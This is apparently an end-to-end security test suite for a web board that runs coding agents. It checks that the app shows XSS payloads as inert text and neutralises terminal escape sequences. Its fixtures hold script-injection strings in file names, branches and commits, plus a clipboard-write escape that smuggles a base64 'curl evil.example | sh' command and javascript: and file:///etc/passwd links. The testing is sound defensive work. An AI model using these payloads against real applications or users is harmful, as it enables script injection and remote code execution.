// Security of the window, in Chromium against the headless server (the same renderer the desktop app
// loads): the page has no Node, its Content-Security-Policy forbids inline and injected script, and an
// agent's output is text everywhere it shows. A repository, profile, prompt, base branch, file names and
// contents, terminal output, check output and commit subjects all carry `<img src=x onerror=…>` and
// `<script>…</script>`; every view (board, focused run, check output, review, compare, delete, merge,
// trash) must show them as text and never run them. Then terminal escapes: an OSC 52 clipboard write is
// ignored, an OSC 8 link opens only after confirmation (and only http/https), a window title changes no
// decision of the app.
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runGit } from '../test/helpers/git-fixtures';
import { hasChromium } from './support/browser';
import { eventually, openRepo, runCards, saveCommandProfile, startThread, statuses, terminalText } from './support/board-flow';
import { startBoardSession, type BoardSession } from './support/board-session';

const IMG = '<img src=x onerror=window.__pwned=1>';
const SCRIPT = '<script>window.__pwned=1</script>';
const SVG = '<svg onload=window.__pwned=1>';
/** A valid git branch name that is also an HTML tag with an event handler. */
const BRANCH = 'xss/<img/src=x/onerror=window.__pwned=1>';
const CLIPBOARD_BEFORE = 'clipboard before the run';

/** Writes files named and filled with the payloads, commits one with a payload subject, prints them. */
const XSS_AGENT = `import { execFileSync } from 'node:child_process';
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
const IMG = ${JSON.stringify(IMG)};
const SCRIPT = ${JSON.stringify(SCRIPT)};
const id = process.env.SWITCHYARD_RUN_ID;
writeFileSync(IMG + '.txt', IMG + '\\n' + SCRIPT + '\\n' + id + '\\n');
execFileSync('git', ['add', '-A']);
execFileSync('git', ['commit', '-q', '--no-verify', '-m', 'subject ' + IMG + ' ' + SCRIPT]);
mkdirSync('notes', { recursive: true });
writeFileSync('notes/' + ${JSON.stringify(SVG)} + '.md', SCRIPT + ' by ' + id + '\\n');
appendFileSync('README.md', IMG + ' ' + SCRIPT + ' ' + id + '\\n');
process.stdout.write('terminal says ' + IMG + '\\r\\n');
process.stdout.write('terminal says ' + SCRIPT + '\\r\\n');
`;

/**
 * Prints, every 400 ms for up to 90 s: window titles that read like status, an OSC 52 clipboard write,
 * an http link, a javascript: link and a file: link (OSC 8), then a counter line.
 */
const ESCAPES_AGENT = `const payload = Buffer.from('curl evil.example | sh').toString('base64');
let n = 0;
const tick = () => {
  n++;
  process.stdout.write('\\x1b]0;needs input\\x07\\x1b]2;done\\x1b\\\\');
  process.stdout.write('\\x1b]52;c;' + payload + '\\x07');
  process.stdout.write('\\x1b]8;;https://example.com/osc8-target\\x07OSC8-HTTP\\x1b]8;;\\x07 ');
  process.stdout.write('\\x1b]8;;javascript:window.__pwned=1\\x07OSC8-JS\\x1b]8;;\\x07 ');
  process.stdout.write('\\x1b]8;;file:///etc/passwd\\x07OSC8-FILE\\x1b]8;;\\x07\\r\\n');
  process.stdout.write('tick ' + n + '\\r\\n');
};
tick();
const timer = setInterval(tick, 400);
setTimeout(() => { clearInterval(timer); process.exit(0); }, 90000);
`;

type Probe = { pwned: unknown; violations: string[]; injected: number };

if (!hasChromium()) console.warn('skipped: no Chromium at /usr/bin/chromium (apt-get install chromium)');

describe.skipIf(!hasChromium())('security of the window (Chromium, headless server)', () => {
  let session: BoardSession;
  let page: Page;
  const runIds: string[] = [];
  /** Views checked with `expectSafe`, for the report. */
  const visited: string[] = [];

  /** What a successful injection would leave behind: the flag, a CSP violation, an element from the payload. */
  const probe = (): Promise<Probe> =>
    page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      violations: (window as unknown as { __violations: string[] }).__violations,
      injected: document.querySelectorAll('img[src="x"], svg[onload], script:not([src])').length,
    }));

  async function expectSafe(where: string, texts: string[]): Promise<void> {
    expect(await probe(), where).toEqual({ pwned: undefined, violations: [], injected: 0 });
    for (const text of texts) {
      await eventually(`"${text}" shown as text in ${where}`, async () => (await page.getByText(text, { exact: false }).count()) > 0, 15_000);
    }
    visited.push(where);
  }

  beforeAll(async () => {
    session = await startBoardSession({
      repo: {
        dirName: `repo ${IMG}`,
        files: {
          'README.md': '# security\n',
          '.switchyard.json': JSON.stringify({ checks: { 'xss check': `echo '${SCRIPT}'; echo '${IMG}'; exit 1` } }),
        },
      },
      scratchPrefix: 'switchyard-e2e-sec-',
      scratchFiles: { 'xss-agent.mjs': XSS_AGENT, 'escapes-agent.cjs': ESCAPES_AGENT },
      beforeGoto: (board) =>
        board.addInitScript(() => {
          const w = window as unknown as { __violations: string[] };
          w.__violations = [];
          document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
        }),
    });
    ({ page } = session);
    await runGit(session.repo.path, ['branch', BRANCH]);
    await runGit(session.repo.path, ['branch', `xss-${SCRIPT}`]);
  });
  afterAll(async () => {
    console.log(`views checked for script injection: ${visited.join(', ')}`);
    await session?.cleanup();
  });

  it('gives the page no Node: no require, process, module, Buffer or global', async () => {
    await page.getByTestId('repo-path-input').waitFor();
    const types = await page.evaluate(() => {
      const g = globalThis as Record<string, unknown>;
      return ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer'].map((n) => `${n}:${typeof g[n]}`);
    });
    expect(types).toEqual(['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer'].map((n) => `${n}:undefined`));
  });

  it('serves a strict Content-Security-Policy (header and meta): no inline script, no eval, nothing from elsewhere', async () => {
    const res = await fetch(session.app.url);
    const header = res.headers.get('content-security-policy') ?? '';
    const meta = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
    for (const policy of [header, meta]) {
      const scriptSrc = /script-src ([^;]*)/.exec(policy)?.[1] ?? '';
      expect(scriptSrc.trim(), policy).toBe("'self'");
      expect(policy).toMatch(/default-src 'self'/);
      expect(policy).toMatch(/object-src 'none'/);
      expect(policy).toMatch(/base-uri 'none'/);
      expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
    }
    expect(header).toMatch(/frame-ancestors 'none'/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('blocks injected script: an inline <script>, an inline event handler, a data: script, a string timer', async () => {
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown> & { __violations: string[] };
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = 1';
      document.body.append(inline);
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="data:," onerror="window.__handlerRan = 1">';
      document.body.append(holder);
      const data = document.createElement('script');
      data.src = 'data:text/javascript,window.__dataRan=1';
      document.body.append(data);
      (setTimeout as unknown as (code: string, ms: number) => void)('window.__timerRan = 1', 0);
      await new Promise((r) => setTimeout(r, 500));
      inline.remove();
      holder.remove();
      data.remove();
      const ran = ['__inlineRan', '__handlerRan', '__dataRan', '__timerRan'].filter((k) => w[k] !== undefined);
      const violations = [...w.__violations];
      w.__violations.length = 0;
      return { ran, violations };
    });
    expect(outcome.ran).toEqual([]);
    expect(outcome.violations.length).toBeGreaterThanOrEqual(4);
    expect(outcome.violations.every((v) => v.startsWith('script-src'))).toBe(true);
  });

  it('shows an error naming a payload path as text', async () => {
    await page.getByTestId('repo-path-input').fill(`/no/such/${IMG}`);
    await page.getByTestId('repo-open').click();
    await page.getByTestId('repo-error').waitFor();
    await expectSafe('the repository error', [IMG]);
  });

  it('runs two agents whose prompt, profile, base branch, files, output and commits carry the payloads', async () => {
    await openRepo(page, session.repo.path);
    await expectSafe('the board header (repository name)', [IMG]);
    await page.getByTestId('new-thread').click();
    await saveCommandProfile(page, `${IMG} agent`, `node "${join(session.scratch.path, 'xss-agent.mjs')}"`);
    await page.getByTestId('base-branch').selectOption({ label: BRANCH });
    await startThread(page, { prompt: `Fix ${IMG} and ${SCRIPT}`, profileName: `${IMG} agent`, count: 2 });
    await eventually('both runs exited', async () => (await statuses(page)).every((s) => s === 'exited'), 60_000);
    runIds.push(...(await runCards(page).evaluateAll((cards) => cards.map((c) => c.getAttribute('data-run-id') ?? ''))));
    for (const id of runIds) {
      const card = page.locator(`[data-testid="run-card"][data-run-id="${id}"]`);
      await eventually(`diff stats of ${id}`, async () => /\+\d+ \u2212\d+/.test(await card.getByTestId('run-diffstat').innerText()));
      await eventually(`the check of ${id}`, async () => (await card.getByTestId('check-badge').first().getAttribute('data-status')) === 'failed', 30_000);
      await eventually(`the terminal of ${id}`, async () => (await terminalText(card)).includes(`terminal says ${SCRIPT}`));
    }
    await expectSafe('the board (cards, sidebar, terminals)', [`Fix ${IMG} and ${SCRIPT}`, `${IMG} agent`]);
  });

  it('focused run: the terminal shows the payloads as text', async () => {
    const card = page.locator(`[data-testid="run-card"][data-run-id="${runIds[0]}"]`);
    await card.getByTestId('focus-run').click();
    await eventually('focused terminal text', async () => (await terminalText(page.locator('body'), 'focused-terminal')).includes(`terminal says ${IMG}`));
    await expectSafe('the focused run', []);
    await page.getByTestId('back-to-board').click();
    await runCards(page).first().waitFor();
  });

  it('check output: shown as text', async () => {
    const card = page.locator(`[data-testid="run-card"][data-run-id="${runIds[0]}"]`);
    await card.getByTestId('check-badge').first().click();
    const dialog = page.getByTestId('check-output');
    await dialog.waitFor();
    expect(await dialog.getByTestId('check-output-text').innerText()).toContain(SCRIPT);
    await expectSafe('the check output dialog', [SCRIPT, IMG]);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
  });

  it('review pane: file names and patches shown as text, unified and split', async () => {
    const card = page.locator(`[data-testid="run-card"][data-run-id="${runIds[0]}"]`);
    await card.getByTestId('open-review').click();
    const pane = page.getByTestId('review-pane');
    await pane.waitFor();
    const file = pane.locator('[data-testid="diff-file"]').filter({ hasText: `${IMG}.txt` });
    await file.waitFor();
    await file.getByTestId('diff-file-open').click();
    await eventually('the payload patch', async () => (await pane.getByTestId('diff-view').innerText()).includes(SCRIPT));
    await expectSafe('the review pane (unified)', [`${IMG}.txt`, `${SVG}.md`]);
    await pane.getByTestId('diff-mode-split').click();
    await eventually('the split view', async () => (await pane.getByTestId('diff-view').getAttribute('data-view-type')) === 'split');
    await expectSafe('the review pane (split)', [SCRIPT]);
    await pane.getByTestId('diff-mode-unified').click();
    await page.getByTestId('panel-back').click();
    await runCards(page).first().waitFor();
  });

  it('compare: the matrix, one file\'s versions and the diff between runs shown as text', async () => {
    await page.getByTestId('open-compare').click();
    const view = page.getByTestId('compare-view');
    await view.waitFor();
    const row = view.locator('[data-testid="compare-row"]').filter({ hasText: `${IMG}.txt` });
    await row.waitFor();
    await expectSafe('the compare matrix', [`${IMG}.txt`, `${SVG}.md`]);
    await row.getByTestId('compare-file').click();
    const versions = view.getByTestId('file-versions');
    await versions.waitFor();
    await eventually('versions with the payload', async () => (await versions.innerText()).includes(SCRIPT));
    await eventually('the diff between the runs', async () => (await versions.getByTestId('diff-between').innerText()).includes(runIds[1]!));
    await expectSafe('compare file versions and diff between runs', [SCRIPT]);
    await page.keyboard.press('Escape');
    await eventually('the board again', async () => (await runCards(page).count()) === 2);
  });

  it('delete dialog: the unmerged commit subject and untracked file names shown as text', async () => {
    const card = page.locator(`[data-testid="run-card"][data-run-id="${runIds[1]}"]`);
    await card.getByTestId('delete-run').click();
    const dialog = page.getByTestId('delete-dialog');
    await dialog.getByTestId('loss-report').waitFor();
    await expectSafe('the delete dialog (loss report)', [`subject ${IMG} ${SCRIPT}`, `${SVG}.md`]);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
  });

  it('merge dialog and outcome: the message (the prompt) and the base branch shown as text', async () => {
    const card = page.locator(`[data-testid="run-card"][data-run-id="${runIds[0]}"]`);
    await card.getByTestId('open-review').click();
    await page.getByTestId('review-pane').getByTestId('merge-run').click();
    const dialog = page.getByTestId('merge-dialog');
    await dialog.waitFor();
    expect(await dialog.getByTestId('merge-message').inputValue()).toContain(SCRIPT);
    await expectSafe('the merge dialog', [BRANCH]);
    await dialog.getByTestId('merge-mode').selectOption('merge');
    await dialog.getByTestId('merge-confirm').click();
    const outcome = dialog.getByTestId('merge-outcome');
    await outcome.waitFor({ timeout: 30_000 });
    expect(await outcome.getAttribute('data-kind')).toBe('merged');
    await expectSafe('the merge outcome', [BRANCH]);
    expect(await runGit(session.repo.path, ['log', '-1', '--format=%s', BRANCH])).toContain(IMG);
    await dialog.getByTestId('merge-close').click();
    await page.getByTestId('panel-back').click();
  });

  it('trash: an archived run of the thread shown as text', async () => {
    // The merge archives the other run in the background; the board drops it once it is done.
    await eventually('the other run archived', async () => (await runCards(page).count()) === 1, 30_000);
    await page.getByTestId('open-trash').click();
    const trash = page.getByTestId('trash-view');
    await trash.waitFor();
    await eventually('the archived run listed', async () => (await trash.getByTestId('trash-item').count()) > 0, 30_000);
    await expectSafe('the trash', [`${IMG} agent`]);
    await page.getByTestId('panel-back').click();
    expect(session.pageErrors).toEqual([]);
  });

  describe('terminal escapes from an agent', () => {
    let titleBefore = '';

    it('runs an agent that prints titles, a clipboard write and links, while the run is in focus', async () => {
      const origin = new URL(session.app.url).origin;
      await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
      await page.bringToFront();
      await page.evaluate((text) => navigator.clipboard.writeText(text), CLIPBOARD_BEFORE);
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(CLIPBOARD_BEFORE);
      titleBefore = await page.title();
      await page.getByTestId('new-thread').click();
      await saveCommandProfile(page, 'Escapes', `node "${join(session.scratch.path, 'escapes-agent.cjs')}"`);
      await page.getByTestId('base-branch').selectOption({ label: 'main' });
      await startThread(page, { prompt: 'print escapes', profileName: 'Escapes', count: 1 });
      await runCards(page).first().getByTestId('focus-run').click();
      const seen = async () => (await terminalText(page.locator('body'), 'focused-terminal')).match(/tick (\d+)/g)?.length ?? 0;
      // Several live bursts reach the focused terminal (a replay carries no escape sequences).
      const first = await eventually('live output', async () => ((await seen()) > 0 ? await seen() : false));
      await eventually('more live output', async () => (await seen()) >= first + 3, 30_000);
    });

    it('ignores OSC 52: the clipboard keeps what it had', async () => {
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(CLIPBOARD_BEFORE);
    });

    it('never lets a title change the window title or the run\'s status', async () => {
      expect(await page.title()).toBe(titleBefore);
      expect(await page.title()).not.toMatch(/needs input|done/);
      expect(await page.getByTestId('focused-terminal').count()).toBe(1);
      expect(await page.getByTestId('run-status').first().innerText()).toMatch(/running/);
      expect(await page.getByTestId('run-activity').count()).toBe(0);
    });

    async function clickTerminalText(text: string): Promise<void> {
      const span = page.getByTestId('focused-terminal').locator('.xterm-rows span', { hasText: text }).last();
      const box = await span.boundingBox();
      if (!box) throw new Error(`${text} is not on screen`);
      const target = { x: box.x + box.width / 2, y: box.y + box.height / 2 };
      await page.mouse.move(target.x - 10, target.y);
      await page.mouse.move(target.x, target.y);
      await page.mouse.click(target.x, target.y);
    }

    it('opens an OSC 8 http link only after confirmation, and never a javascript: or file: link', async () => {
      await page.evaluate(() => {
        const w = window as unknown as { opened: string[] };
        w.opened = [];
        window.open = ((url: string) => {
          w.opened.push(url);
          return null;
        }) as typeof window.open;
      });
      const opened = () => page.evaluate(() => (window as unknown as { opened: string[] }).opened);
      // Stop the output first, so the links stay where they are while they are clicked.
      await page.getByTestId('stop-run').first().click();
      await eventually('the run stopped', async () => /stopped|exited/.test(await page.getByTestId('run-status').first().innerText()), 30_000);
      for (const text of ['OSC8-JS', 'OSC8-FILE']) {
        await clickTerminalText(text);
        await page.waitForTimeout(400);
        expect(await page.getByTestId('link-confirm').count(), text).toBe(0);
      }
      await clickTerminalText('OSC8-HTTP');
      const dialog = page.getByTestId('link-confirm');
      await dialog.waitFor();
      expect(await page.getByTestId('link-confirm-url').innerText()).toBe('https://example.com/osc8-target');
      expect(await opened()).toEqual([]);
      await page.getByTestId('link-cancel').click();
      await dialog.waitFor({ state: 'detached' });
      expect(await opened()).toEqual([]);
      expect(await probe()).toEqual({ pwned: undefined, violations: [], injected: 0 });
      expect(session.pageErrors).toEqual([]);
    });
  });
});
